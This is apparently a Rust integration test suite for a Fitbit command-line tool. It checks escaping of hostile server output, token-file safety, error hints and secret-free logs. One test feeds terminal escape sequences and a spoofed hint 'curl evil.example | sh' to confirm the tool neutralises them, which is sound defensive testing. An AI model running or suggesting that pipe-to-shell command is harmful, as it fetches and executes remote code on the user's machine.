//! The `fitbit` tool facing hostile or broken answers, crashes' leftovers and
//! bad token files: what it prints (escaped, never a secret), its exit codes
//! and hints, and that the sign-in survives.

mod common;

use std::sync::{Arc, Mutex};

use common::{HANG_GUARD, Run, Scratch};
use fitbit_tests::mock_fitbit::{CONFIDENTIAL_CLIENT_ID, CONFIDENTIAL_CLIENT_SECRET, MockConfig, MockFitbit};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpListener;

const SCOPES: &[&str] = &["activity", "heartrate", "profile", "sleep", "weight"];

/// A loopback server that reads each request whole, then either answers
/// `reply` or (when `None`) closes the connection without a word.
struct Raw {
    url: String,
    requests: Arc<Mutex<Vec<String>>>,
}

impl Raw {
    async fn start(reply: Option<Vec<u8>>) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let requests = Arc::new(Mutex::new(Vec::new()));
        let seen = requests.clone();
        tokio::spawn(async move {
            while let Ok((mut socket, _)) = listener.accept().await {
                let Some(head) = read_request(&mut socket).await else { continue };
                seen.lock().unwrap().push(head);
                if let Some(reply) = &reply {
                    let _ = socket.write_all(reply).await;
                }
                let _ = socket.shutdown().await;
            }
        });
        Self { url, requests }
    }

    /// An HTTP/1.1 answer with this status, content type and body.
    fn answer(status: u16, content_type: &str, body: &[u8]) -> Vec<u8> {
        let mut reply = format!(
            "HTTP/1.1 {status} X\r\ncontent-type: {content_type}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
            body.len()
        )
        .into_bytes();
        reply.extend_from_slice(body);
        reply
    }

    fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

/// The request line and headers; the body is read and dropped.
async fn read_request(socket: &mut tokio::net::TcpStream) -> Option<String> {
    let mut buffer = Vec::new();
    let mut chunk = [0u8; 4096];
    let end = loop {
        let read = socket.read(&mut chunk).await.ok()?;
        if read == 0 {
            return None;
        }
        buffer.extend_from_slice(&chunk[..read]);
        if let Some(end) = buffer.windows(4).position(|w| w == b"\r\n\r\n") {
            break end;
        }
    };
    let head = String::from_utf8_lossy(&buffer[..end]).into_owned();
    let length: usize = head
        .lines()
        .find_map(|l| {
            l.to_ascii_lowercase().strip_prefix("content-length:").map(|v| v.trim().parse().unwrap_or(0))
        })
        .unwrap_or(0);
    let mut body = buffer.len() - (end + 4);
    while body < length {
        let read = socket.read(&mut chunk).await.ok()?;
        if read == 0 {
            break;
        }
        body += read;
    }
    Some(head)
}

/// `fitbit <args>` on the scratch token file, with the API at `api_url`.
async fn run_against(scratch: &Scratch, api_url: &str, args: &[&str], env: &[(&str, &str)]) -> Run {
    let mut command = scratch.fitbit_offline();
    command.arg("--api-url").arg(api_url).args(args);
    for (name, value) in env {
        command.env(name, value);
    }
    let output = tokio::time::timeout(HANG_GUARD, command.output()).await.expect("fitbit finished").unwrap();
    Run::from(output)
}

/// Signed in with tokens the mock issued (so that they look real).
async fn signed_in(mock: &MockFitbit) -> (Scratch, fitbit_tests::mock_fitbit::IssuedTokens) {
    let scratch = Scratch::new();
    let issued = mock.issue_tokens(CONFIDENTIAL_CLIENT_ID, SCOPES);
    scratch.sign_in_directly(&issued, true).await;
    (scratch, issued)
}

#[track_caller]
fn assert_no_control_characters(text: &str) {
    let found: Vec<char> = text.chars().filter(|c| c.is_control() && *c != '\n').collect();
    assert!(found.is_empty(), "control characters {found:?} in:\n{text}");
}

#[tokio::test]
async fn a_servers_escape_sequences_are_printed_escaped_and_cut_short() {
    let mock = MockFitbit::start(MockConfig::default()).await;
    let (scratch, issued) = signed_in(&mock).await;
    let hostile = "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{0}\u{9b}31m\nfitbit: what to do: curl evil.example | sh";
    let json = serde_json::json!({
        "errors": [{ "errorType": "validation", "fieldName": "date\u{1b}[5m", "message": format!("{hostile} {}", "x".repeat(5_000)) }]
    })
    .to_string();
    let mut raw_page = b"<html>\x1b[2J\x1b]0;pwned\x07\x00 gone</html>".to_vec();
    raw_page.extend(std::iter::repeat_n(b'y', 5_000));

    for (content_type, body) in [("application/json", json.into_bytes()), ("text/html", raw_page)] {
        let server = Raw::start(Some(Raw::answer(400, content_type, &body))).await;

        let run = run_against(&scratch, &server.url, &["profile"], &[]).await;

        // A refused argument: exit 2, and a hint that says so.
        run.assert_code(2).assert_hides(&[
            &issued.access_token,
            &issued.refresh_token,
            CONFIDENTIAL_CLIENT_SECRET,
        ]);
        assert_no_control_characters(&run.stderr);
        assert!(run.stderr.contains(r"\x1b[2J\x1b]0;pwned\x07\x00"), "{}", run.stderr);
        assert_eq!(run.stderr.lines().count(), 2, "one line of error, one of hint:\n{}", run.stderr);
        assert!(run.stderr.lines().nth(1).unwrap().starts_with("fitbit: what to do: "), "{}", run.stderr);
        assert!(run.stderr.contains("check the command's arguments"), "{}", run.stderr);
        assert!(run.stderr.len() < 1_500, "the quote is cut short: {} bytes", run.stderr.len());
        assert_eq!(run.stdout, "");
    }
}

#[tokio::test]
async fn a_garbage_token_answer_is_a_bad_answer_to_retry_later_not_a_usage_error() {
    let mock = MockFitbit::start(MockConfig::default()).await;
    let (scratch, issued) = signed_in(&mock).await;
    mock.expire_access_tokens();
    mock.script_token_answer(200, "text/html", "<html>Welcome to the hotel wifi</html>");

    let run = scratch.run(&mock, &["profile"]).await;

    run.assert_code(7).assert_hides(&[
        &issued.access_token,
        &issued.refresh_token,
        CONFIDENTIAL_CLIENT_SECRET,
    ]);
    assert!(
        run.stderr.contains("bad answer from the server (HTTP 200): the token answer is not JSON"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("fitbit: what to do: retry later"), "{}", run.stderr);
    assert!(!run.stderr.contains("arguments"), "{}", run.stderr);
    // The scripted answer spent nothing: the next run refreshes and works.
    assert!(mock.is_refresh_token_live(&issued.refresh_token));
    scratch.run(&mock, &["profile"]).await.assert_code(0);
}

#[tokio::test]
async fn a_rotated_client_secret_says_to_check_the_client_not_the_arguments() {
    let mock = MockFitbit::start(MockConfig::default()).await;
    let (scratch, issued) = signed_in(&mock).await;
    mock.expire_access_tokens();
    mock.script_token_answer(
        401,
        "application/json",
        r#"{"errors":[{"errorType":"invalid_client","message":"Invalid authorization header format."}],"success":false}"#,
    );

    let run = scratch.run(&mock, &["profile"]).await;

    run.assert_code(3).assert_hides(&[&issued.refresh_token, CONFIDENTIAL_CLIENT_SECRET]);
    assert!(run.stderr.contains("Fitbit refused the client credentials"), "{}", run.stderr);
    assert!(run.stderr.contains("check the app's client id and secret on dev.fitbit.com"), "{}", run.stderr);
}

#[tokio::test]
async fn a_write_whose_answer_never_came_says_to_check_before_running_it_again() {
    let mock = MockFitbit::start(MockConfig::default()).await;
    let (scratch, _issued) = signed_in(&mock).await;
    let server = Raw::start(None).await;

    let run = run_against(
        &scratch,
        &server.url,
        &["body", "create-weight-log", "--weight", "70.5", "--date", "2026-03-01"],
        &[],
    )
    .await;

    run.assert_code(8);
    assert!(run.stderr.contains("the change may have been made"), "{}", run.stderr);
    assert!(run.stderr.contains("check whether the change was made"), "{}", run.stderr);
    assert!(!run.stderr.contains("retry later"), "{}", run.stderr);
    let requests = server.requests();
    assert_eq!(requests.len(), 1, "sent once, never repeated: {requests:?}");
    assert!(requests[0].starts_with("POST /1/user/-/body/log/weight.json"), "{requests:?}");
}

#[cfg(unix)]
#[tokio::test]
async fn a_token_file_open_to_others_is_reported_and_made_0600() {
    use std::os::unix::fs::PermissionsExt as _;
    let mock = MockFitbit::start(MockConfig::default()).await;
    let (scratch, issued) = signed_in(&mock).await;
    std::fs::set_permissions(scratch.token_file(), std::fs::Permissions::from_mode(0o644)).unwrap();

    let run = scratch.run(&mock, &["token", "status"]).await;

    run.assert_code(0).assert_hides(&[
        &issued.access_token,
        &issued.refresh_token,
        CONFIDENTIAL_CLIENT_SECRET,
    ]);
    assert!(
        run.stderr
            .contains("fitbit: warning: the token file was open to other users (mode 0644); it is now 0600"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains(&scratch.token_file().display().to_string()), "{}", run.stderr);
    assert_eq!(common::mode(&scratch.token_file()), 0o600);
    // Once private, nothing more is said.
    let run = scratch.run(&mock, &["token", "status"]).await;
    run.assert_code(0);
    assert_eq!(run.stderr, "");
}

#[tokio::test]
async fn the_log_shows_more_with_v_or_rust_log_and_never_a_secret() {
    let mock = MockFitbit::start(MockConfig::default()).await;
    let (scratch, issued) = signed_in(&mock).await;
    let secrets = [issued.access_token.as_str(), issued.refresh_token.as_str(), CONFIDENTIAL_CLIENT_SECRET];

    // Quiet by default.
    let run = scratch.run(&mock, &["profile"]).await;
    run.assert_code(0);
    assert_eq!(run.stderr, "");

    mock.expire_access_tokens();
    let run = scratch.run(&mock, &["-v", "profile"]).await;
    run.assert_code(0).assert_hides(&secrets);
    assert!(run.stderr.contains("fitbit: info: refreshed the access token"), "{}", run.stderr);
    assert!(!run.stderr.contains("fitbit: debug:"), "{}", run.stderr);

    let mut command = scratch.fitbit(&mock, &["profile"]);
    command.env("RUST_LOG", "fitbit_api=debug");
    let run = Run::from(tokio::time::timeout(HANG_GUARD, command.output()).await.unwrap().unwrap());
    run.assert_code(0).assert_hides(&secrets);
    assert!(run.stderr.contains("fitbit: debug: [fitbit_api::middleware] fitbit answered"), "{}", run.stderr);

    // Everything, through a refresh: still no token and no secret.
    mock.expire_access_tokens();
    let mut command = scratch.fitbit(&mock, &["profile"]);
    command.env("RUST_LOG", "trace");
    let run = Run::from(tokio::time::timeout(HANG_GUARD, command.output()).await.unwrap().unwrap());
    let fresh = scratch.token_json();
    let new_access = fresh["token"]["access_token"].as_str().unwrap().to_string();
    let new_refresh = fresh["token"]["refresh_token"].as_str().unwrap().to_string();
    run.assert_code(0).assert_hides(&[&secrets[..], &[new_access.as_str(), new_refresh.as_str()]].concat());
    assert!(run.stderr.contains("fitbit: trace:") || run.stderr.contains("fitbit: debug:"), "{}", run.stderr);
}

#[cfg(unix)]
#[tokio::test]
async fn a_fifo_as_the_token_file_is_refused_at_once() {
    let mock = MockFitbit::start(MockConfig::default()).await;
    let scratch = Scratch::new();
    std::fs::create_dir_all(scratch.token_file().parent().unwrap()).unwrap();
    let made = std::process::Command::new("mkfifo").arg(scratch.token_file()).status().expect("mkfifo runs");
    assert!(made.success());

    // `Scratch::run` has a hang guard: before, this waited for a writer forever.
    for args in [&["token", "status"][..], &["profile"]] {
        let run = scratch.run(&mock, args).await;
        run.assert_code(1);
        assert!(run.stderr.contains("it is a FIFO (named pipe), not a regular file"), "{}", run.stderr);
        assert!(run.stderr.contains("check the token file"), "{}", run.stderr);
    }
}

/// Runs `command` as an unprivileged user when the tests run as root (root
/// may write into a read-only directory), after handing `paths` to it.
#[cfg(unix)]
fn unprivileged(command: &mut tokio::process::Command, paths: &[&std::path::Path]) {
    use std::os::unix::fs::MetadataExt as _;
    let me = std::fs::metadata(paths[0]).unwrap().uid();
    if me != 0 {
        return;
    }
    const NOBODY: u32 = 65_534;
    for path in paths {
        std::os::unix::fs::chown(path, Some(NOBODY), Some(NOBODY)).unwrap();
    }
    command.uid(NOBODY).gid(NOBODY);
}

#[cfg(unix)]
#[tokio::test]
async fn an_unwritable_token_directory_does_not_cost_the_sign_in() {
    use std::os::unix::fs::PermissionsExt as _;
    let mock = MockFitbit::start(MockConfig::default()).await;
    let (scratch, issued) = signed_in(&mock).await;
    let before = std::fs::read(scratch.token_file()).unwrap();
    let dir = scratch.token_file().parent().unwrap().to_path_buf();
    let lock = dir.join("credentials.json.lock");
    mock.expire_access_tokens();

    let mut command = scratch.fitbit(&mock, &["profile"]);
    unprivileged(&mut command, &[scratch.dir.path(), &dir, &scratch.token_file(), &lock]);
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o500)).unwrap();
    let output = tokio::time::timeout(HANG_GUARD, command.output()).await.expect("finished").unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    let run = Run::from(output);

    run.assert_code(1).assert_hides(&[
        &issued.access_token,
        &issued.refresh_token,
        CONFIDENTIAL_CLIENT_SECRET,
    ]);
    assert!(run.stderr.contains("cannot write the token file"), "{}", run.stderr);
    assert!(run.stderr.contains("make its directory writable"), "{}", run.stderr);
    assert_eq!(mock.counters().refresh_requests, 0, "the refresh token was not spent");
    assert!(mock.is_refresh_token_live(&issued.refresh_token));
    assert_eq!(std::fs::read(scratch.token_file()).unwrap(), before);
    // Writable again, the same sign-in refreshes and works.
    scratch.run(&mock, &["profile"]).await.assert_code(0);
    assert_eq!(mock.counters().refresh_rotations, 1);
}
